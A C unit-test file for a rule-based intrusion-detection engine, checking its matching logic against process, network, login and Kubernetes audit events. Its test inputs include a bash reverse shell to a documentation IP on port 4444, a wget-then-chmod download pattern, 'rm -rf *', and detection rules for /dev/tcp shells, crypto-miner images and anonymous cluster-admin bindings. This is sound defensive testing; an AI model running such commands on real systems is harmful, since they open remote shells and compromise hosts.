/* Unit tests: detection rules on real events (modifiers, wildcards, case,
 * lists, conditions, derived fields, generate: false, summaries). */
#include "detect_testlib.h"

#define HDR(id, cat)                                                                             \
    "title: " id "\nid: " id "\nlevel: high\nlogsource: {product: linux, category: " cat "}\n"   \
    "chainwatch: {tactic: execution}\n"

static got run(cw_ruleset *rs, const cw_event *ev)
{
    cw_detector *d;
    assert_int_equal(cw_detector_create(&d, rs), 0);
    got g = {0};
    cw_detector_event(d, ev, collect, &g);
    cw_detector_free(d);
    return g;
}

/* Checks which of the rules in yaml fire on one exec of argv. */
static got on_exec(const char *yaml, const char *exe, char **argv, size_t argc)
{
    agent_ev a;
    return run(load(yaml), mk_exec(&a, T0, exe, argv, argc));
}

static void string_modifiers(void **state)
{
    (void)state;
    const char *y = HDR("contains", "process_exec")
        "detection: {s: {cmdline|contains: '/dev/tcp/'}, condition: s}\n---\n"
        HDR("starts", "process_exec")
        "detection: {s: {cmdline|startswith: 'BASH -c'}, condition: s}\n---\n"
        HDR("ends", "process_exec")
        "detection: {s: {exe|endswith: '/bash'}, condition: s}\n---\n"
        HDR("equals", "process_exec")
        "detection: {s: {exe_name: bash}, condition: s}\n---\n"
        HDR("equals-not-substring", "process_exec")
        "detection: {s: {exe_name: bas}, condition: s}\n---\n"
        HDR("cased-miss", "process_exec")
        "detection: {s: {cmdline|contains|cased: 'BASH'}, condition: s}\n---\n"
        HDR("cased-hit", "process_exec")
        "detection: {s: {cmdline|contains|cased: 'bash -c'}, condition: s}\n---\n"
        HDR("re", "process_exec")
        "detection: {s: {cmdline|re: '/dev/tcp/[0-9.]+/[0-9]+'}, condition: s}\n---\n"
        HDR("re-case", "process_exec")
        "detection: {s: {cmdline|re: 'BASH'}, condition: s}\n---\n"
        HDR("re-i", "process_exec")
        "detection: {s: {cmdline|re|i: '^BASH'}, condition: s}\n";
    char *argv[] = {"bash", "-c", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"};
    got g = on_exec(y, "/usr/bin/bash", argv, 3);
    assert_int_equal(fired(&g, "contains"), 1);
    assert_int_equal(fired(&g, "starts"), 1);
    assert_int_equal(fired(&g, "ends"), 1);
    assert_int_equal(fired(&g, "equals"), 1);
    assert_int_equal(fired(&g, "equals-not-substring"), 0);
    assert_int_equal(fired(&g, "cased-miss"), 0);
    assert_int_equal(fired(&g, "cased-hit"), 1);
    assert_int_equal(fired(&g, "re"), 1);
    assert_int_equal(fired(&g, "re-case"), 0);
    assert_int_equal(fired(&g, "re-i"), 1);
    assert_int_equal(g.n, 7);
    /* Alerts come out in load order. */
    assert_string_equal(g.ids[0], "contains");
    assert_string_equal(g.ids[6], "re-i");
}

static void wildcards_and_escapes(void **state)
{
    (void)state;
    const char *y = HDR("star", "process_exec")
        "detection: {s: {exe: '/usr/*/python?'}, condition: s}\n---\n"
        HDR("q-one-char", "process_exec")
        "detection: {s: {exe: '/usr/bin/python?'}, condition: s}\n---\n"
        HDR("literal-star", "process_exec")
        "detection: {s: {cmdline|contains: 'rm -rf \\*'}, condition: s}\n---\n"
        HDR("literal-star-miss", "process_exec")
        "detection: {s: {cmdline|contains: 'rm -rf \\*x'}, condition: s}\n---\n"
        HDR("literal-q", "process_exec")
        "detection: {s: {cmdline|endswith: 'why\\?'}, condition: s}\n---\n"
        HDR("backslash", "process_exec")
        "detection: {s: {cmdline|contains: 'C:\\\\tmp'}, condition: s}\n---\n"
        HDR("regex-chars-literal", "process_exec")
        "detection: {s: {cmdline|contains: '(a+b)[1]'}, condition: s}\n---\n"
        HDR("any", "process_exec")
        "detection: {s: {exe: '*'}, condition: s}\n";
    char *argv[] = {"python3", "rm -rf * C:\\tmp (a+b)[1] why?"};
    got g = on_exec(y, "/usr/bin/python3", argv, 2);
    assert_int_equal(fired(&g, "star"), 1);
    assert_int_equal(fired(&g, "q-one-char"), 1);
    assert_int_equal(fired(&g, "literal-star"), 1);
    assert_int_equal(fired(&g, "literal-star-miss"), 0);
    assert_int_equal(fired(&g, "literal-q"), 1);
    assert_int_equal(fired(&g, "backslash"), 1);
    assert_int_equal(fired(&g, "regex-chars-literal"), 1);
    assert_int_equal(fired(&g, "any"), 1);
    /* '?' is exactly one character. */
    g = on_exec(y, "/usr/bin/python", argv, 2);
    assert_int_equal(fired(&g, "q-one-char"), 0);
    assert_int_equal(fired(&g, "star"), 0);
}

static void lists_and_all(void **state)
{
    (void)state;
    const char *y = HDR("value-list", "process_exec")
        "detection: {s: {exe_name: [sh, dash, bash]}, condition: s}\n---\n"
        HDR("argv-any", "process_exec")
        "detection: {s: {argv: '-i'}, condition: s}\n---\n"
        HDR("argv-all", "process_exec")
        "detection: {s: {argv|all: ['-i', '-c']}, condition: s}\n---\n"
        HDR("argv-all-miss", "process_exec")
        "detection: {s: {argv|all: ['-i', '-x']}, condition: s}\n---\n"
        HDR("cmd-all", "process_exec")
        "detection: {s: {cmdline|contains|all: [wget, chmod]}, condition: s}\n---\n"
        HDR("list-of-maps", "process_exec")
        "detection:\n  s:\n    - {exe_name: nope}\n    - {argv: '-c', exe_name: bash}\n"
        "  condition: s\n";
    char *argv[] = {"bash", "-i", "-c", "wget x; chmod +x x"};
    got g = on_exec(y, "/bin/bash", argv, 4);
    assert_int_equal(fired(&g, "value-list"), 1);
    assert_int_equal(fired(&g, "argv-any"), 1);
    assert_int_equal(fired(&g, "argv-all"), 1);
    assert_int_equal(fired(&g, "argv-all-miss"), 0);
    assert_int_equal(fired(&g, "cmd-all"), 1);
    assert_int_equal(fired(&g, "list-of-maps"), 1);
    /* An element must match as a whole: "-i" is not "-ix". */
    char *argv2[] = {"bash", "-ix"};
    g = on_exec(y, "/bin/bash", argv2, 2);
    assert_int_equal(fired(&g, "argv-any"), 0);
}

static void conditions(void **state)
{
    (void)state;
    const char *sels = "  sel_a: {exe_name: bash}\n  sel_b: {argv: '-i'}\n"
                       "  filter: {parent_exe_name: healthcheck}\n  _aux: {exe_name: zsh}\n";
    char y[8192];
    const char *conds[][2] = {
        {"and-not", "sel_a and not filter"},
        {"or", "sel_a or _aux"},
        {"parens", "(filter or sel_b) and sel_a"},
        {"one-of", "1 of sel_*"},
        {"all-of", "all of sel_*"},
        {"one-of-them", "1 of them"},
        {"all-of-them", "all of them"},      /* _aux is not part of them */
        {"not-only", "not filter"},           /* evaluated for every event */
        {"prec", "filter and sel_a or sel_b"}, /* (filter and sel_a) or sel_b */
        {"nope", "sel_a and filter"},
    };
    size_t len = 0;
    for (size_t i = 0; i < sizeof conds / sizeof conds[0]; i++)
        len += (size_t)snprintf(y + len, sizeof y - len,
                                "%stitle: %s\nid: %s\nlevel: low\nlogsource: {category: "
                                "process_exec}\nchainwatch: {tactic: execution}\ndetection:\n%s"
                                "  condition: %s\n",
                                i ? "---\n" : "", conds[i][0], conds[i][0], sels, conds[i][1]);
    char *argv[] = {"bash", "-i"};
    got g = on_exec(y, "/bin/bash", argv, 2);
    for (size_t i = 0; i < sizeof conds / sizeof conds[0]; i++)
        if (fired(&g, conds[i][0]) !=
            (strcmp(conds[i][0], "nope") != 0 && strcmp(conds[i][0], "all-of-them") != 0))
            fail_msg("condition %s: fired %d", conds[i][1], fired(&g, conds[i][0]));
    /* The filter now matches: not-only and and-not stay quiet. */
    agent_ev a;
    mk_exec(&a, T0, "/bin/bash", argv, 2);
    a.exec.parent_exe = "/opt/healthcheck";
    g = run(load(y), &a.ev);
    assert_int_equal(fired(&g, "and-not"), 0);
    assert_int_equal(fired(&g, "not-only"), 0);
    assert_int_equal(fired(&g, "nope"), 1);
    assert_int_equal(fired(&g, "all-of-them"), 1);
}

static void numbers_cidr_exists_null(void **state)
{
    (void)state;
    const char *y = HDR("port-eq", "net_connect")
        "detection: {s: {dst_port: 4444}, condition: s}\n---\n"
        HDR("port-gt", "net_connect")
        "detection: {s: {dst_port|gt: 1024}, condition: s}\n---\n"
        HDR("port-lte", "net_connect")
        "detection: {s: {dst_port|lte: 1024}, condition: s}\n---\n"
        HDR("port-gte-lt", "net_connect")
        "detection: {s: {dst_port|gte: 4444}, t: {dst_port|lt: 4445}, condition: s and t}\n---\n"
        HDR("public", "net_connect")
        "detection:\n  s: {dst_ip|cidr: 0.0.0.0/0}\n"
        "  private: {dst_ip|cidr: [10.0.0.0/8, 172.16.0.0/12, 192.168.0.0/16]}\n"
        "  condition: s and not private\n---\n"
        HDR("v6", "net_connect")
        "detection: {s: {dst_ip|cidr: '2001:db8::/32'}, condition: s}\n---\n"
        HDR("has-src", "net_connect")
        "detection: {s: {src_ip|exists: true}, condition: s}\n---\n"
        HDR("no-src", "net_connect")
        "detection: {s: {src_ip|exists: false}, condition: s}\n---\n"
        HDR("src-null", "net_connect")
        "detection: {s: {src_ip: null}, condition: s}\n---\n"
        HDR("pod-null", "net_connect")
        "detection: {s: {pod: null}, condition: s}\n";
    agent_ev a;
    got g = run(load(y), mk_net(&a, T0, "203.0.113.9", 4444));
    assert_int_equal(fired(&g, "port-eq"), 1);
    assert_int_equal(fired(&g, "port-gt"), 1);
    assert_int_equal(fired(&g, "port-lte"), 0);
    assert_int_equal(fired(&g, "port-gte-lt"), 1);
    assert_int_equal(fired(&g, "public"), 1);
    assert_int_equal(fired(&g, "v6"), 0);
    assert_int_equal(fired(&g, "has-src"), 0);
    assert_int_equal(fired(&g, "no-src"), 1);
    assert_int_equal(fired(&g, "src-null"), 1);
    assert_int_equal(fired(&g, "pod-null"), 1); /* "" context = unknown = absent */
    g = run(load(y), mk_net(&a, T0, "10.1.2.3", 80));
    assert_int_equal(fired(&g, "public"), 0);
    assert_int_equal(fired(&g, "port-lte"), 1);
    assert_int_equal(fired(&g, "port-gt"), 0);
    g = run(load(y), mk_net(&a, T0, "2001:db8:0:1::5", 443));
    assert_int_equal(fired(&g, "v6"), 1);
    assert_int_equal(fired(&g, "public"), 0); /* v4 network, v6 address */
    mk_net(&a, T0, "2001:db9::1", 443);
    a.net.src_ip = "10.0.0.5";
    g = run(load(y), &a.ev);
    assert_int_equal(fired(&g, "v6"), 0);
    assert_int_equal(fired(&g, "has-src"), 1);
    assert_int_equal(fired(&g, "src-null"), 0);
}

static void login_bool_and_summary(void **state)
{
    (void)state;
    const char *y = "title: SSH login failed\nid: fail\nlevel: low\n"
                    "logsource: {product: linux, category: login}\n"
                    "chainwatch: {tactic: credential-access, technique: MS-TA9005, attack: T1110}\n"
                    "detection: {s: {success: false, service: sshd}, condition: s}\n---\n"
                    "title: t\nid: tmpl\nlevel: low\nlogsource: {category: login}\n"
                    "chainwatch: {tactic: initial-access, summary: 'login {user} from {src_ip} "
                    "{nope}'}\n"
                    "detection: {s: {success: 'False'}, condition: s}\n";
    agent_ev a;
    got g = run(load(y), mk_login(&a, T0, "vm-1", "root", "203.0.113.9", 0));
    assert_int_equal(g.n, 2);
    assert_string_equal(g.summary[0], "SSH login failed: root@203.0.113.9 via sshd on vm-1");
    assert_string_equal(g.summary[1], "login root from 203.0.113.9 ?");
    assert_string_equal(g.key[0], "");
    g = run(load(y), mk_login(&a, T0, "vm-1", "root", "203.0.113.9", 1));
    assert_int_equal(g.n, 0);
}

static void meta_and_generate_false(void **state)
{
    (void)state;
    const char *y = "title: Base\nid: base\nlevel: informational\ngenerate: false\n"
                    "logsource: {category: process_exec}\nchainwatch: {tactic: discovery}\n"
                    "detection: {s: {exe_name: id}, condition: s}\n---\n"
                    "title: Tags only\nid: tags\nlevel: critical\n"
                    "logsource: {category: process_exec}\n"
                    "tags: [attack.privilege_escalation, attack.t1068]\n"
                    "detection: {s: {exe_name: id}, condition: s}\n---\n"
                    "title: Phase override\nid: ph\nlevel: medium\n"
                    "logsource: {category: process_exec}\n"
                    "chainwatch: {tactic: defense-evasion, technique: MS-TA9024, phase: pre}\n"
                    "detection: {s: {exe_name: id}, condition: s}\n";
    cw_ruleset *rs = load(y);
    assert_int_equal(cw_ruleset_count(rs), 3);
    cw_detector *d;
    assert_int_equal(cw_detector_create(&d, rs), 0);
    char *argv[] = {"id"};
    agent_ev a;
    mk_exec(&a, T0, "/usr/bin/id", argv, 1);
    got g = {0};
    cw_detector_event(d, &a.ev, collect, &g);
    assert_int_equal(g.n, 2); /* base has generate: false */
    assert_string_equal(g.ids[0], "tags");
    assert_string_equal(g.ids[1], "ph");
    cw_detector_free(d);
}

static void record_meta(const cw_alert *a, void *ud)
{
    cw_rule_meta *m = ud;
    *m = *a->rule;
}

static void meta_values(void **state)
{
    (void)state;
    const char *y = "title: Tags only\nid: tags\nlevel: critical\n"
                    "logsource: {category: process_exec}\n"
                    "tags: [attack.privilege_escalation, attack.t1068]\n"
                    "detection: {s: {exe_name: id}, condition: s}\n";
    cw_detector *d;
    assert_int_equal(cw_detector_create(&d, load(y)), 0);
    char *argv[] = {"id"};
    agent_ev a;
    cw_rule_meta m = {0};
    cw_detector_event(d, mk_exec(&a, T0, "/usr/bin/id", argv, 1), record_meta, &m);
    assert_string_equal(m.id, "tags");
    assert_string_equal(m.title, "Tags only");
    assert_int_equal(m.severity, CW_SEV_CRITICAL);
    assert_string_equal(m.tactic, "privilege-escalation");
    assert_string_equal(m.phase, "mid");
    assert_string_equal(m.attack, "T1068");
    assert_null(m.technique);
    cw_detector_free(d);
}

static void audit_derived_fields(void **state)
{
    (void)state;
    const char *y =
        "title: Exec shell\nid: exec\nlevel: high\n"
        "logsource: {product: kubernetes, service: audit}\n"
        "chainwatch: {tactic: execution, technique: MS-TA9006}\n"
        "detection:\n  s: {resource: pods, subresource: [exec, attach], exec_command: [sh, bash],"
        " exec_tty: true}\n  condition: s\n---\n"
        "title: Priv\nid: priv\nlevel: high\nlogsource: {product: kubernetes, service: audit}\n"
        "chainwatch: {tactic: privilege-escalation}\n"
        "detection:\n  s: {verb: create, privileged: true}\n"
        "  m: {host_paths|startswith: /etc, caps_add: SYS_ADMIN, images|contains: xmrig,"
        " host_pid: true}\n  condition: s or m\n---\n"
        "title: Admin\nid: admin\nlevel: critical\n"
        "logsource: {product: kubernetes, service: audit}\n"
        "chainwatch: {tactic: privilege-escalation, technique: MS-TA9019}\n"
        "detection:\n  s: {role_ref: cluster-admin, role_ref_kind: ClusterRole, subjects: "
        "'system:anonymous', anonymous: true, owner_kind: ''}\n  condition: s\n";
    cw_event ev;
    json_t *j;
    mk_audit(&ev, &j,
             "{\"auditID\":\"a1\",\"stage\":\"ResponseStarted\",\"verb\":\"create\","
             "\"user\":{\"username\":\"alice\"},\"objectRef\":{\"resource\":\"pods\","
             "\"subresource\":\"exec\",\"namespace\":\"shop\",\"name\":\"web-1\"},"
             "\"requestURI\":\"/api/v1/namespaces/shop/pods/web-1/exec?command=%2Fbin%2Fsh&"
             "command=sh&container=web&stdin=true&tty=true\"}");
    got g = run(load(y), &ev);
    assert_int_equal(g.n, 1);
    assert_string_equal(g.ids[0], "exec");
    assert_string_equal(g.summary[0], "Exec shell: create pods/exec shop/web-1 by alice on prod");
    json_decref(j);
    mk_audit(&ev, &j,
             "{\"verb\":\"create\",\"objectRef\":{\"resource\":\"deployments\"},"
             "\"requestObject\":{\"spec\":{\"template\":{\"spec\":{\"hostPID\":true,"
             "\"volumes\":[{\"hostPath\":{\"path\":\"/etc/kubernetes\"}}],"
             "\"initContainers\":[{\"image\":\"xmrig/xmrig\",\"securityContext\":"
             "{\"capabilities\":{\"add\":[\"SYS_ADMIN\"]}}}],"
             "\"containers\":[{\"image\":\"nginx\"}]}}}}}");
    g = run(load(y), &ev);
    assert_int_equal(fired(&g, "priv"), 1);
    json_decref(j);
    mk_audit(&ev, &j,
             "{\"verb\":\"create\",\"user\":{\"username\":\"x\",\"groups\":"
             "[\"system:unauthenticated\"]},\"objectRef\":{\"resource\":\"clusterrolebindings\"},"
             "\"requestObject\":{\"roleRef\":{\"kind\":\"ClusterRole\",\"name\":\"cluster-admin\"},"
             "\"subjects\":[{\"kind\":\"User\",\"name\":\"system:anonymous\"}]}}");
    g = run(load(y), &ev);
    assert_int_equal(fired(&g, "admin"), 1);
    assert_int_equal(fired(&g, "priv"), 0);
    json_decref(j);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(string_modifiers),   cmocka_unit_test(wildcards_and_escapes),
        cmocka_unit_test(lists_and_all),      cmocka_unit_test(conditions),
        cmocka_unit_test(numbers_cidr_exists_null), cmocka_unit_test(login_bool_and_summary),
        cmocka_unit_test(meta_and_generate_false), cmocka_unit_test(meta_values),
        cmocka_unit_test(audit_derived_fields),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
